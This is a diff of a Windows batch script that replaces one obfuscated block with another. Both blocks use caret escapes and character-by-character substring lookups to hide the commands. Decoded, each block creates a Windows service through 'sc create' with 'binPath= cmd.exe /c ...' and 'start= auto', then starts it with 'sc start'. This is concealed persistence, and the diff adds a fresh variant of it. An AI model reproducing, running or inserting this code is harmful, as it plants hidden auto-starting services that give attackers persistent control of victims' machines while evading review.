@@ -1,7 +1,7 @@
-REM bootstrap 7253 v3
-@^e^cho ^off
-^s^e^t "ufcs=Pmua:cOxe/8o2iZdtsnYUrhB.b\7vyfGlCSD"
-%ufcs:~17,1%%ufcs:~5,1% %ufcs:~5,1%%ufcs:~21,1%%ufcs:~-28,1%%ufcs:~3,1%%ufcs:~-20,1%%ufcs:~8,1% %ufcs:~6,1%%ufcs:~18,1%%ufcs:~-28,1%%ufcs:~35,1%%ufcs:~-15,1%%ufcs:~-23,1%%ufcs:~-8,1%%ufcs:~8,1%%ufcs:~-2,1%%ufcs:~29,1%%ufcs:~18,1%%ufcs:~-31,1% %ufcs:~-11,1%%ufcs:~13,1%%ufcs:~-18,1%%ufcs:~-36,1%%ufcs:~-33,1%%ufcs:~16,1%%ufcs:~22,1%= "%ufcs:~5,1%%ufcs:~-35,1%%ufcs:~15,1%%ufcs:~-12,1%%ufcs:~-28,1%%ufcs:~7,1%%ufcs:~-28,1% %ufcs:~-27,1%%ufcs:~5,1% %ufcs:~33,1%%ufcs:~-32,1%%ufcs:~26,1%%ufcs:~-16,1%%ufcs:~17,1%%ufcs:~8,1%%ufcs:~21,1%%ufcs:~17,1%%ufcs:~26,1%%ufcs:~0,1%%ufcs:~2,1%%ufcs:~25,1%%ufcs:~-4,1%%ufcs:~13,1%%ufcs:~5,1%%ufcs:~-10,1%%ufcs:~17,1%%ufcs:~28,1%%ufcs:~-31,1%%ufcs:~-12,1%%ufcs:~-28,1%%ufcs:~7,1%%ufcs:~8,1%" %ufcs:~17,1%%ufcs:~-20,1%%ufcs:~-33,1%%ufcs:~-15,1%%ufcs:~-20,1%= %ufcs:~-33,1%%ufcs:~2,1%%ufcs:~16,1%%ufcs:~11,1%
-@^e^cho o^f^f
-s^et "qclg=SeUrhsd2vJLOcyGintaDp"
-%qclg:~5,1%%qclg:~12,1% %qclg:~5,1%%qclg:~17,1%%qclg:~18,1%%qclg:~3,1%%qclg:~17,1% %qclg:~-10,1%%qclg:~16,1%%qclg:~-20,1%%qclg:~19,1%%qclg:~3,1%%qclg:~15,1%%qclg:~8,1%%qclg:~1,1%%qclg:~0,1%%qclg:~13,1%%qclg:~16,1%%qclg:~12,1%
+REM setup 2589 v3
+@^ec^h^o off
+^se^t "soqv=sul7n0kmhxcjHpfivaMwrSt.Ud\:PCEGg/ebo"
+%soqv:~0,1%%soqv:~10,1% %soqv:~-27,1%%soqv:~20,1%%soqv:~-3,1%%soqv:~17,1%%soqv:~22,1%%soqv:~-3,1% %soqv:~-19,1%%soqv:~15,1%%soqv:~10,1%%soqv:~20,1%%soqv:~36,1%%soqv:~0,1%%soqv:~36,1%%soqv:~14,1%%soqv:~22,1%%soqv:~-7,1%%soqv:~25,1%%soqv:~-5,1%%soqv:~-3,1%%soqv:~-13,1%%soqv:~13,1%%soqv:~25,1%%soqv:~17,1%%soqv:~22,1%%soqv:~34,1%%soqv:~-8,1%%soqv:~36,1%%soqv:~20,1%%soqv:~-3,1% %soqv:~35,1%%soqv:~15,1%%soqv:~4,1%%soqv:~28,1%%soqv:~17,1%%soqv:~-15,1%%soqv:~8,1%= "%soqv:~-27,1%%soqv:~-30,1%%soqv:~25,1%%soqv:~-14,1%%soqv:~34,1%%soqv:~9,1%%soqv:~34,1% %soqv:~33,1%%soqv:~10,1% %soqv:~29,1%%soqv:~27,1%%soqv:~26,1%%soqv:~24,1%%soqv:~0,1%%soqv:~-3,1%%soqv:~20,1%%soqv:~0,1%%soqv:~-11,1%%soqv:~28,1%%soqv:~1,1%%soqv:~35,1%%soqv:~2,1%%soqv:~15,1%%soqv:~10,1%%soqv:~26,1%%soqv:~-37,1%%soqv:~-21,1%%soqv:~10,1%%soqv:~-14,1%%soqv:~34,1%%soqv:~9,1%%soqv:~34,1%" %soqv:~0,1%%soqv:~22,1%%soqv:~-20,1%%soqv:~20,1%%soqv:~22,1%= %soqv:~-20,1%%soqv:~-36,1%%soqv:~-15,1%%soqv:~36,1%
+@echo ^o^f^f
+s^et "waqe=MEf9UmbuteZo5digrcs1paCT"
+%waqe:~-6,1%%waqe:~17,1% %waqe:~18,1%%waqe:~8,1%%waqe:~-3,1%%waqe:~16,1%%waqe:~-16,1% %waqe:~0,1%%waqe:~14,1%%waqe:~-7,1%%waqe:~-8,1%%waqe:~11,1%%waqe:~18,1%%waqe:~11,1%%waqe:~2,1%%waqe:~8,1%%waqe:~-23,1%%waqe:~13,1%%waqe:~15,1%%waqe:~9,1%%waqe:~4,1%%waqe:~-4,1%%waqe:~13,1%%waqe:~-3,1%%waqe:~8,1%%waqe:~9,1%%waqe:~22,1%%waqe:~11,1%%waqe:~16,1%%waqe:~9,1%
